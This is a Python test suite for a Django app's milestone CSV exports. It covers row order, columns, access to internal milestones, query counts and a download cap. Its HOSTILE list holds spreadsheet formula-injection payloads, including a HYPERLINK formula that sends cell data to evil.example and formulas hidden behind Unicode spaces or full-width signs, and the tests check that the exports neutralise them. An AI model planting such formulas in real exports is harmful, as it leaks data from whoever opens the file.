"""Milestone CSV reports: what is on screen, safe in a spreadsheet, in a fixed number of queries."""

import csv
import datetime
import io

import pytest
from django.core.management import CommandError, ManagementUtility, call_command
from django.core.signals import request_finished
from django.db import close_old_connections, connection, connections, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from agreements.models import CooperationArea, Milestone
from tests.factories import AgencyFactory, AgreementFactory, MilestoneFactory, PartyFactory

pytestmark = pytest.mark.django_db
EXPORT = reverse("agreements:milestone_export")
LIST = reverse("agreements:milestone_list")
TODAY = timezone.localdate()
HEADER = [
    "Agreement reference", "Agreement title", "Milestone", "Cooperation area",
    "Responsible agency", "Due date", "Status", "Date met", "Overdue", "Days overdue",
    "Last reviewed (UTC)", "Link",
]  # fmt: skip


def download(client, url, params=None):
    response = client.get(url, params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    return response, body


def parse(body: bytes, encoding="utf-8"):
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


@pytest.fixture
def report(db):
    """A mixed set of milestones over two agreements (one of them internal)."""
    days = datetime.timedelta
    govtech = CooperationArea.objects.get(slug="govtech")
    party = PartyFactory(agreement=AgreementFactory(reference="AGR-2025-0001", slug="bridge"))
    other = AgreementFactory(reference="AGR-2024-0007")
    internal = AgreementFactory(reference="AGR-2025-0099", visibility="internal")
    rows = {
        "late": MilestoneFactory(
            agreement=party.agreement,
            title="Testing platform study",
            area=govtech,
            responsible_agency=party.agency,
            due_date=TODAY - days(3),
            status="in_progress",
        ),
        "soon": MilestoneFactory(agreement=other, due_date=TODAY + days(12)),
        "met": MilestoneFactory(
            agreement=other, due_date=TODAY - days(40), status="met", date_met=TODAY - days(41)
        ),
        "undated": MilestoneFactory(agreement=party.agreement, due_date=None),
        "secret": MilestoneFactory(agreement=internal, title="Internal only step"),
    }
    return rows


def page_titles(client, params):
    """Every row the milestone list shows for these filters, over all its pages."""
    response = client.get(LIST, params)
    return [m.title for m in response.context["paginator"].object_list]


@pytest.mark.parametrize(
    "params",
    [{}, {"overdue": "on"}, {"area": "govtech"}, {"sort": "-due"}, {"status": "met"},
     {"due_within": "30"}, {"agreement": "agr-2024-0007", "sort": "status"}],
)  # fmt: skip
def test_csv_has_the_same_rows_in_the_same_order_as_the_page(client, report, params):
    _, body = download(client, EXPORT, params)
    rows = parse(body)
    assert rows[0] == HEADER
    assert [row[2] for row in rows[1:]] == page_titles(client, params)


def test_every_column_matches_the_database(client, report):
    late = Milestone.objects.get(pk=report["late"].pk)
    _, body = download(client, EXPORT, {"area": "govtech"})
    (row,) = parse(body)[1:]
    assert row == [
        "AGR-2025-0001",
        late.agreement.title,
        "Testing platform study",
        "GovTech",
        late.responsible_agency.name,
        (TODAY - datetime.timedelta(days=3)).isoformat(),
        "In progress",
        "",
        "yes",
        "3",
        late.last_reviewed.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "http://testserver/en/agreements/bridge/",
    ]


def test_days_remaining_are_negative_and_met_rows_carry_their_date(client, report):
    _, body = download(client, EXPORT)
    by_title = {row[2]: row for row in parse(body)[1:]}
    soon = by_title[report["soon"].title]
    assert (soon[8], soon[9]) == ("no", "-12")
    met = by_title[report["met"].title]
    assert (met[6], met[7], met[8]) == (
        "Met",
        (TODAY - datetime.timedelta(days=41)).isoformat(),
        "no",
    )
    # Days overdue or remaining mean something for open work only.
    assert met[9] == ""
    undated = by_title[report["undated"].title]
    assert (undated[5], undated[9]) == ("", "")


def test_filename_says_what_and_when(client, report):
    response, _ = download(client, EXPORT)
    assert response["Content-Disposition"] == (
        f'attachment; filename="milestones-{TODAY.isoformat()}.csv"'
    )
    response, _ = download(client, reverse("agreements:agreement_milestones_csv", args=["bridge"]))
    assert response["Content-Disposition"] == (
        f'attachment; filename="AGR-2025-0001-milestones-{TODAY.isoformat()}.csv"'
    )
    response, _ = download(client, EXPORT, {"variant": "excel"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="milestones-{TODAY.isoformat()}-excel.csv"'
    )


def test_agreement_export_has_only_its_milestones(client, report):
    _, body = download(client, reverse("agreements:agreement_milestones_csv", args=["bridge"]))
    assert [row[2] for row in parse(body)[1:]] == [report["late"].title, report["undated"].title]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rcarriage return",
    "\nline feed",
    # A formula behind leading white space: LibreOffice's "Trim spaces" import runs it.
    " =1+1",
    "   @SUM(A1:A9)",
    "\u00a0=1+1",  # no-break space
    *[chr(code) + "=1+1" for code in range(0x2000, 0x200B)],  # en quad … hair space
    "\u202f+1",  # narrow no-break space
    "\u205f-2",  # medium mathematical space
    "\u3000=1+1",  # ideographic space
    "\ufeff=1+1",  # zero-width no-break space
    # Full-width signs, which spreadsheets with East Asian input read as formula signs.
    "\uff1d1+1",  # ＝
    "\uff0b1",  # ＋
    "\uff0d2",  # －
    "\uff20SUM(A1:A9)",  # ＠
]


@pytest.mark.parametrize("title", HOSTILE)
def test_formula_cells_are_neutralised_and_round_trip(client, db, title):
    agreement = AgreementFactory(title=title, reference=title[:30])
    MilestoneFactory(agreement=agreement, title=title)
    _, body = download(client, EXPORT)
    (row,) = parse(body)[1:]
    assert row[0] == "'" + title[:30]
    assert row[1] == "'" + title
    assert row[2] == "'" + title


def test_every_white_space_character_is_guarded():
    from agreements.exports import WHITE_SPACE

    every = {c for c in map(chr, range(0x110000)) if c.isspace()}
    assert every <= set(WHITE_SPACE)
    assert {"\u00a0", "\u202f", "\u205f", "\u3000", "\ufeff"} <= set(WHITE_SPACE)


def every_export(client, staff, agreement) -> dict[str, list[list[str]]]:
    """The data rows of each way to get the report: the milestone list's download and
    the agreement page's (anonymous), both admin actions, and the command."""
    milestones = list(Milestone.objects.filter(agreement=agreement).values_list("pk", flat=True))
    bodies = {
        "milestone list": download(client, EXPORT)[1],
        "agreement page": download(
            client, reverse("agreements:agreement_milestones_csv", args=[agreement.slug])
        )[1],
    }
    client.force_login(staff)
    for name, model, action, chosen in [
        ("admin milestones", "milestone", "export_selected_csv", milestones),
        ("admin agreements", "agreement", "export_milestones_csv", [agreement.pk]),
    ]:
        response = client.post(
            reverse(f"admin:agreements_{model}_changelist"),
            {"action": action, "_selected_action": chosen},
        )
        assert response.status_code == 200, name
        bodies[name] = b"".join(response.streaming_content)
    client.logout()
    out = io.StringIO()
    call_command("export_milestones", stdout=out)
    bodies["command"] = out.getvalue().encode()
    return {name: parse(body)[1:] for name, body in bodies.items()}


def test_every_export_guards_every_text_cell(client, viewer, db):
    area = CooperationArea.objects.create(name="\u3000=AREA()", slug="hostile-area")
    party = PartyFactory(
        agency=AgencyFactory(name="\uff20AGENCY"),
        agreement=AgreementFactory(reference=" +REF", title="\u00a0=TITLE()", slug="hostile"),
    )
    MilestoneFactory(
        agreement=party.agreement,
        title="\ufeff\uff0dSTEP",
        area=area,
        responsible_agency=party.agency,
    )
    guarded = ["' +REF", "'\xa0=TITLE()", "'\ufeff\uff0dSTEP", "'\u3000=AREA()", "'\uff20AGENCY"]
    for name, rows in every_export(client, viewer, party.agreement).items():
        assert [row[:5] for row in rows] == [guarded], name


def test_nul_characters_never_reach_the_file(client, viewer, db):
    if connection.vendor == "postgresql":
        # PostgreSQL refuses NUL in text, so none can be stored, let alone exported.
        for make in [
            lambda: AgreementFactory(title="\x00=1+1"),
            lambda: MilestoneFactory(title="Pil\x00ot"),
            lambda: AgencyFactory(name="Agency\x00"),
            lambda: CooperationArea.objects.create(name="\x00@AREA", slug="nul-area"),
        ]:
            with pytest.raises(ValueError, match="NUL"), transaction.atomic():
                make()
        return
    # SQLite keeps them; the export drops them before the formula guard looks at the text.
    area = CooperationArea.objects.create(name="\x00@AREA", slug="nul-area")
    party = PartyFactory(
        agency=AgencyFactory(name="Agency\x00 A"),
        agreement=AgreementFactory(reference="AGR\x00-1", title="\x00=1+1", slug="nul"),
    )
    MilestoneFactory(
        agreement=party.agreement, title="Pil\x00ot", area=area, responsible_agency=party.agency
    )
    cleaned = ["AGR-1", "'=1+1", "Pilot", "'@AREA", "Agency A"]
    for name, rows in every_export(client, viewer, party.agreement).items():
        assert [row[:5] for row in rows] == [cleaned], name
        assert "\x00" not in "".join(rows[0]), name
    # The link column too (a slug only the ORM could store).
    MilestoneFactory(agreement=AgreementFactory(slug="nul\x00slug"), title="Linked")
    _, body = download(client, EXPORT)
    assert b"\x00" not in body
    (linked,) = [row for row in parse(body)[1:] if row[2] == "Linked"]
    assert linked[11] == "http://testserver/en/agreements/nulslug/"


def test_quotes_commas_and_newlines_inside_cells_round_trip(client, db):
    title = 'Pilot "Digital Bridge", phase 1\nthen phase 2; cost 1,000'
    MilestoneFactory(title=title)
    _, body = download(client, EXPORT)
    assert parse(body)[1][2] == title


@pytest.mark.parametrize(("variant", "encoding"), [(None, "utf-8"), ("excel", "utf-8-sig")])
def test_non_latin_text_round_trips_in_both_variants(client, db, variant, encoding):
    MilestoneFactory(title="Подписание с Miguel López-Valverde Argüeso · Қазақстан")
    _, body = download(client, EXPORT, {"variant": variant} if variant else {})
    assert body.startswith(b"\xef\xbb\xbf") is (variant == "excel")
    rows = parse(body, encoding)
    assert rows[0][0] == "Agreement reference"
    assert rows[1][2] == "Подписание с Miguel López-Valverde Argüeso · Қазақстан"


def test_anonymous_never_receives_internal_milestones(client, report):
    for params in [{}, {"agreement": "AGR-2025-0099"}, {"status": "scheduled"}]:
        _, body = download(client, EXPORT, params)
        assert b"Internal only step" not in body
        assert b"AGR-2025-0099" not in body
    internal = report["secret"].agreement
    url = reverse("agreements:agreement_milestones_csv", args=[internal.slug])
    assert client.get(url).status_code == 404


def test_staff_export_includes_internal_milestones(client, viewer, report):
    client.force_login(viewer)
    _, body = download(client, EXPORT)
    assert b"Internal only step" in body


def test_invalid_filters_give_the_page_with_its_message_and_no_file(client, report):
    response = client.get(EXPORT, {"due_from": "2026-02-30"})
    assert response.status_code == 400  # no report: a script must not take the page for one
    assert response["Content-Type"].startswith("text/html")
    assert "Enter a date as year-month-day, for example 2025-10-03." in response.content.decode()


def test_download_links_carry_the_filters_but_not_the_page(client, report):
    content = client.get(LIST, {"area": "govtech", "page": "1"}).content.decode()
    assert f'href="{EXPORT}?area=govtech"' in content
    assert f'href="{EXPORT}?area=govtech&amp;variant=excel"' in content


@pytest.mark.parametrize(
    "url", [EXPORT, reverse("agreements:agreement_milestones_csv", args=["anchor"])]
)
def test_query_count_is_fixed_for_3_and_300_rows(client, db, url):
    agreement = AgreementFactory(slug="anchor")

    def queries():
        with CaptureQueriesContext(connection) as ctx:
            _, body = download(client, url, {"sort": "-due"} if url == EXPORT else {})
        return len(ctx.captured_queries), len(parse(body)) - 1

    MilestoneFactory.create_batch(3, agreement=agreement)
    few, rows = queries()
    assert rows == 3
    MilestoneFactory.create_batch(297, agreement=agreement)
    many, rows = queries()
    assert rows == 300
    assert few == many <= 2


class TestAdminActions:
    def test_export_selected_milestones(self, client, viewer, report):
        client.force_login(viewer)
        chosen = [report["late"].pk, report["secret"].pk]
        response = client.post(
            reverse("admin:agreements_milestone_changelist"),
            {"action": "export_selected_csv", "_selected_action": chosen},
        )
        rows = parse(b"".join(response.streaming_content))
        assert rows[0] == HEADER
        assert sorted(row[2] for row in rows[1:]) == [
            "Internal only step",
            "Testing platform study",
        ]

    def test_export_milestones_of_selected_agreements(self, client, viewer, report):
        client.force_login(viewer)
        response = client.post(
            reverse("admin:agreements_agreement_changelist"),
            {
                "action": "export_milestones_csv",
                "_selected_action": [report["late"].agreement.pk, report["soon"].agreement.pk],
            },
        )
        rows = parse(b"".join(response.streaming_content))
        assert [row[0] for row in rows[1:]] == ["AGR-2024-0007"] * 2 + ["AGR-2025-0001"] * 2


class TestCommand:
    def test_writes_the_same_csv_as_the_page(self, client, report, tmp_path):
        target = tmp_path / "overdue.csv"
        call_command("export_milestones", "--overdue", "-o", str(target), stderr=io.StringIO())
        _, body = download(client, EXPORT, {"overdue": "on"})
        from_page = [row[:11] for row in parse(body)]
        from_command = [row[:11] for row in parse(target.read_bytes())]
        assert from_command == from_page
        assert len(from_command) == 2

    def test_public_only_unless_asked(self, report):
        out = io.StringIO()
        call_command("export_milestones", stdout=out)
        assert "Internal only step" not in out.getvalue()
        out = io.StringIO()
        call_command(
            "export_milestones",
            "--include-internal",
            "--area",
            "govtech",
            "--base-url",
            "https://accords.example",
            stdout=out,
        )
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        assert [row[2] for row in rows[1:]] == ["Testing platform study"]
        assert rows[1][11] == "https://accords.example/en/agreements/bridge/"

    def test_sort_value_may_start_with_a_dash(self, client, report):
        """`--sort -due`, as the README writes it, not only `--sort=-due`."""
        _, body = download(client, EXPORT, {"sort": "-due"})
        from_page = [row[2] for row in parse(body)]
        out = io.StringIO()
        call_command("export_milestones", "--sort", "-due", stdout=out)
        from_call = [row[2] for row in csv.reader(io.StringIO(out.getvalue()))]
        assert from_call == from_page
        assert from_call[1] == report["soon"].title  # latest due date first

    def test_sort_value_may_start_with_a_dash_on_the_command_line(
        self, client, report, capsys, monkeypatch, tmp_path
    ):
        # As `python manage.py …` runs it (which closes the connections when it is done:
        # keep the test's open, it holds the test's transaction).
        monkeypatch.setattr(connections, "close_all", lambda: None)
        target = tmp_path / "latest-first.csv"
        argv = ["manage.py", "export_milestones", "--sort", "-due", "-o", str(target)]
        ManagementUtility(argv).execute()
        _, body = download(client, EXPORT, {"sort": "-due"})
        from_page = [row[:11] for row in parse(body)]
        assert [row[:11] for row in parse(target.read_bytes())] == from_page
        assert from_page[1][2] == report["soon"].title  # latest due date first
        assert "Wrote 4 milestones" in capsys.readouterr().err

    def test_invalid_filters_are_an_error(self, db):
        with pytest.raises(CommandError, match="--due-within: Enter a whole number"):
            call_command("export_milestones", "--due-within", "soon")


def test_a_download_stopped_half_way_leaves_the_database_usable(client, rf, db):
    from django.contrib.auth.models import AnonymousUser

    from agreements.views import MilestoneExportView

    agreement = AgreementFactory(slug="big")
    # About 6 MB of CSV: more than the export buffers, so the query is still running.
    Milestone.objects.bulk_create(
        Milestone(agreement=agreement, title=f"Step {n:05d} " + "x" * 280) for n in range(20000)
    )
    request = rf.get(EXPORT)
    request.user = AnonymousUser()
    response = MilestoneExportView.as_view()(request)
    stream = iter(response)
    next(stream)  # the header
    next(stream)  # the first rows
    # What a server does when the client goes away. (Like Django's test client, keep
    # request_finished from closing the test's connection, which holds its transaction.)
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert Milestone.objects.filter(agreement=agreement).count() == 20000
    _, body = download(client, EXPORT)
    assert len(parse(body)) == 20001


def hang_up(response):
    """What the server does when a client goes away: close the response. (Like Django's
    test client, keep request_finished from closing the test's connection.)"""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


class TestDownloadCap:
    """Clients that open downloads and stop reading cannot take every server thread."""

    @pytest.fixture(autouse=True)
    def cap_of_two(self, settings):
        settings.ACCORDS_MAX_EXPORTS = 2

    def test_past_the_cap_downloads_wait_while_pages_still_answer(self, client, viewer, report):
        agreement_csv = reverse("agreements:agreement_milestones_csv", args=["bridge"])
        # Two downloads started and not read (their clients stalled).
        stalled = [client.get(EXPORT), client.get(agreement_csv)]
        assert [response.status_code for response in stalled] == [200, 200]

        busy = client.get(EXPORT, {"variant": "excel"})
        assert busy.status_code == 503
        assert int(busy["Retry-After"]) > 0
        assert busy["Content-Type"].startswith("text/html")
        page = busy.content.decode()
        assert "Too many downloads right now" in page
        assert "Please try again in" in page
        assert 'class="site-header"' in page  # the site's own layout
        assert client.get(agreement_csv).status_code == 503
        # Page views are not held up.
        for url in [LIST, reverse("home"), reverse("agreements:agreement_detail", args=["bridge"])]:
            assert client.get(url).status_code == 200, url
        # Staff get the same answer, under their own name, from the portal and the admin.
        client.force_login(viewer)
        busy = client.get(EXPORT)
        assert busy.status_code == 503
        assert "viewer" in busy.content.decode()
        response = client.post(
            reverse("admin:agreements_milestone_changelist"),
            {"action": "export_selected_csv", "_selected_action": [report["late"].pk]},
        )
        assert response.status_code == 503
        assert "Retry-After" in response
        # Scheduled reports from the command line are not capped.
        out = io.StringIO()
        call_command("export_milestones", stdout=out)
        assert "Testing platform study" in out.getvalue()

        # One stalled client goes away: a download fits again, complete, and the cap holds.
        hang_up(stalled.pop())
        _, body = download(client, EXPORT)
        assert len(parse(body)) == 6  # header + 5 (staff see the internal one)
        third = client.get(agreement_csv)
        assert third.status_code == 200
        assert client.get(EXPORT).status_code == 503
        for response in [*stalled, third]:
            hang_up(response)
        assert [download(client, EXPORT)[0].status_code for _ in range(3)] == [200] * 3

    def test_a_finished_download_gives_its_place_back(self, rf, db, settings):
        from django.contrib.auth.models import AnonymousUser

        from agreements.views import MilestoneExportView

        settings.ACCORDS_MAX_EXPORTS = 1
        MilestoneFactory.create_batch(3)
        request = rf.get(EXPORT)
        request.user = AnonymousUser()
        first = MilestoneExportView.as_view()(request)
        assert len(parse(b"".join(first.streaming_content))) == 4  # read to the end, not closed
        second = MilestoneExportView.as_view()(request)
        assert second.status_code == 200
        assert MilestoneExportView.as_view()(request).status_code == 503
        hang_up(second)
        hang_up(first)
